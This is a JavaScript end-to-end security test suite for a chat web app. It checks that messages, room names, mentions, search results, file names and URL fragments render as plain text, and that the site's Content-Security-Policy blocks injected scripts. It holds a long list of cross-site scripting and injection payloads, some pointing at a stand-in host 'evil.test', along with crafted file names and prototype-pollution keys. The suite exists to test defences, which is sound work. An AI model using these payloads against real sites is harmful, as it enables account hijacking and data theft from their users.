/** What people write that wants to be more than text, wherever it is shown. */
import assert from 'node:assert/strict';
import { after, afterEach, before, test } from 'node:test';
import { assertNoProblems, startStage, until } from './people.js';

const PAYLOADS = [
  '<script>pwned()</script>',
  '"><script src=//evil.test/x.js></script>',
  '<img src=x onerror=pwned()>',
  '<img src="http://evil.test/seen.png">',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><a xlink:href="javascript:pwned()"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<details open ontoggle=pwned()>x</details>',
  '<input autofocus onfocus=pwned()>',
  '<body onload=pwned()>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<base href="http://evil.test/">',
  '<meta http-equiv=refresh content="0;url=http://evil.test/">',
  '<form action=http://evil.test/><button>log in</button></form>',
  '<template><img src=x onerror=pwned()></template>',
  '</textarea><script>pwned()</script>',
  '<!--><img src=x onerror=pwned()>-->',
  '&lt;img src=x onerror=pwned()&gt;',
  '&#60;script&#62;pwned()&#60;/script&#62;',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '＜script＞pwned()＜/script＞',
  '<scr\u0000ipt>pwned()</script>'.replace('\u0000', '\u200b'),
  '<ſcript>pwned()</ſcript>',
  '${pwned()}',
  '{{constructor.constructor("pwned()")()}}',
  '#{pwned()}',
  '`${pwned()}`',
  '\' onmouseover=\'pwned()',
  '" autofocus onfocus="pwned()',
  'javascript:pwned()',
  'JaVaScRiPt://%0apwned()',
  'java\tscript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'vbscript:pwned()',
  'http://x.test/"onmouseover="pwned()',
  "http://x.test/'onmouseover='pwned()",
  'https://x.test/<script>pwned()</script>',
  'https://javascript:pwned()@x.test/',
  '[link](javascript:pwned())',
  '![img](x" onerror="pwned())',
  '<a href="javascript:pwned()">press</a>',
  '\u202e<script>pwned()</script>\u202c',
  '__proto__',
  'constructor',
];
const NAME = '<img src=x onerror=pwned()>';

let stage;

before(async () => (stage = await startStage()));
afterEach(() => stage.clear());
after(() => stage.close());

/** Somebody whose page tells when anything in it ran, was stopped by the policy, or asked for something elsewhere. */
async function watched(name) {
  const person = await stage.person(name, { signUp: false });
  person.asked = [];
  person.page.on('request', (request) => person.asked.push(request.url()));
  await person.context.addInitScript(() => {
    globalThis.ran = [];
    globalThis.pwned = () => globalThis.ran.push('pwned');
    document.addEventListener('securitypolicyviolation', (event) => globalThis.ran.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
  await person.signUp();
  return person;
}

async function assertNothingRan(person) {
  assert.deepEqual(await person.page.evaluate(() => globalThis.ran), []);
  const foreign = person.asked.filter((url) => !/^(blob|data):/.test(url) && new URL(url).host !== new URL(stage.url).host);
  assert.deepEqual(foreign, []);
  assert.equal(await person.page.evaluate(() => Object.prototype.admin), undefined);
  const alien = await person.page.evaluate(
    () =>
      [...document.querySelectorAll('script:not([src^="/"]), iframe, object, embed, base, math, style, link:not([href^="/"]), meta[http-equiv=refresh], form[action], svg a')]
        .map((element) => element.outerHTML)
        .concat([...document.querySelectorAll('*')].flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on')))),
  );
  assert.deepEqual(alien, []);
  const links = await person.page.locator('a[href]').evaluateAll((all) => all.map((link) => link.protocol));
  assert.deepEqual(links.filter((protocol) => !/^(https?|blob):$/.test(protocol)), []);
}

/** By its button: Escape clears a field that has a text first, and leaves the room when there is no dialog any more. */
async function closeDialog(person) {
  await person.page.getByRole('dialog').getByRole('button', { name: 'Close', exact: true }).click();
  await person.page.locator('dialog').waitFor({ state: 'detached' });
}

test('a message is text, whatever stands in it', async () => {
  const alice = await watched('Alice');
  const mallory = await stage.bot('Mallory');
  const roomId = await alice.startChat(mallory.nickname);
  await mallory.write(roomId, ...PAYLOADS);
  await alice.sees(...PAYLOADS);
  for (const link of await alice.page.locator('.bubble-text a').all()) {
    assert.match(await link.getAttribute('href'), /^https?:\/\//);
    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer nofollow');
  }
  await alice.page.mouse.move(300, 300);
  await assertNothingRan(alice);

  // Again from history, and what is kept in the browser.
  await alice.write(NAME);
  await alice.allSent();
  await alice.page.reload();
  await alice.page.locator('.conversation').waitFor();
  await alice.sees(...PAYLOADS, NAME);
  await assertNothingRan(alice);
  assertNoProblems(alice);
});

test('so are names, quotes, mentions, search hits, notices, reactions and what the room tells', async () => {
  const alice = await watched('Alice');
  const mallory = await stage.bot(NAME);
  const other = await stage.bot('"><svg onload=pwned()>');
  const { users } = await mallory.ask('GET', `/api/v1/users?nickname=${encodeURIComponent(alice.nickname)}`);
  const roomName = `${NAME}<script>pwned()</script>`;
  const { roomId } = await mallory.ask('POST', '/api/v1/chat/group-rooms', { name: roomName, memberIds: [users[0].userId, other.userId] });
  const shown = async (selector, text) =>
    until(async () => assert.ok((await alice.page.locator(selector).allTextContents()).some((found) => found.includes(text)), selector));
  await shown('a.room', roomName);
  await alice.openRoom(roomName);
  await shown('.pane', roomName);

  await mallory.write(roomId, `${NAME} @${other.nickname} @${alice.nickname}`);
  await shown('.bubble-text', `${NAME} @${other.nickname} @${alice.nickname}`);
  await shown('.message', mallory.nickname);
  const { messageId } = (await mallory.history(roomId)).find((message) => message.content.startsWith(NAME));
  await alice.act(NAME, 'reply');
  await shown('.compose-context', mallory.nickname);
  await alice.write('answered');
  await shown('.quote-text', NAME);
  await mallory.ask('PUT', `/api/v1/chat/rooms/${roomId}/notice`, { messageId });
  await mallory.ask('PATCH', `/api/v1/chat/group-rooms/${roomId}`, { name: `<svg onload=pwned()>${roomName}`.slice(0, 100) });
  await shown('.system', '<svg onload=pwned()>');
  await mallory.ask('PATCH', `/api/v1/chat/rooms/${roomId}/messages/${messageId}`, { content: `edited ${NAME}` });
  await shown('.bubble-text', `edited ${NAME}`);

  await alice.page.locator('[data-action=search-all]').click();
  await alice.page.locator('#search-input').fill('<img src');
  await shown('dialog', NAME);
  await closeDialog(alice);
  await alice.openMembers();
  await shown('.room-dialog .person', other.nickname);
  await closeDialog(alice);
  await alice.page.locator('[data-action=new-chat]').click();
  await alice.page.locator('#picker-input').fill(NAME);
  await shown('.picker-list .person', mallory.nickname);
  await closeDialog(alice);
  await assertNothingRan(alice);

  const fileName = "' onerror=pwned() x='&lt;img src=x&gt; javascript&#58;pwned().txt";
  await alice.page.locator('.composer input[type=file]').setInputFiles({ name: fileName, mimeType: 'text/plain', buffer: Buffer.from('pwned()') });
  await alice.page.locator('.send-button').click();
  await alice.allSent();
  await shown('.file-chip', fileName);
  await alice.page.locator('.file-chip').last().click();
  await assertNothingRan(alice);
});

test('an address leads nowhere but to rooms', async () => {
  const alice = await watched('Alice');
  for (const address of [`#/rooms/${NAME}`, '#javascript:pwned()', '#/rooms/1/../../x', '#//evil.test/', '#/rooms/__proto__', `#/${'x'.repeat(5_000)}`, '?access_token=x#/rooms/-1']) {
    await alice.page.goto(`${stage.url}/${address}`);
    await alice.page.reload();
    await alice.page.locator('.shell').waitFor();
    await assertNothingRan(alice);
    assert.equal(new URL(alice.page.url()).host, new URL(stage.url).host);
  }
});

test('the policy would stop what got through', async () => {
  const response = await fetch(stage.url);
  const policy = Object.fromEntries(
    response.headers
      .get('content-security-policy')
      .split(';')
      .map((directive) => directive.trim().split(/ (.*)/s)),
  );
  assert.equal(policy['default-src'], "'self'");
  assert.equal(policy['script-src'], "'self'");
  assert.equal(policy['style-src'], "'self'");
  assert.equal(policy['frame-ancestors'], "'none'");
  assert.equal(policy['base-uri'], "'none'");
  assert.equal(policy['form-action'], "'self'");
  assert.doesNotMatch(JSON.stringify(policy), /unsafe|\*|https?:/);

  const alice = await watched('Alice');
  await alice.page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'pwned()';
    document.body.append(script);
    const place = document.createElement('div');
    place.innerHTML = '<img src="data:," onerror="pwned()"><iframe src="javascript:parent.pwned()"></iframe>';
    document.body.append(place);
  });
  await until(async () => {
    const ran = await alice.page.evaluate(() => globalThis.ran);
    assert.ok(ran.some((what) => what.startsWith('script-src-elem')), String(ran));
    assert.ok(ran.some((what) => what.startsWith('script-src-attr')), String(ran));
  });
  assert.equal((await alice.page.evaluate(() => globalThis.ran)).includes('pwned'), false);
});
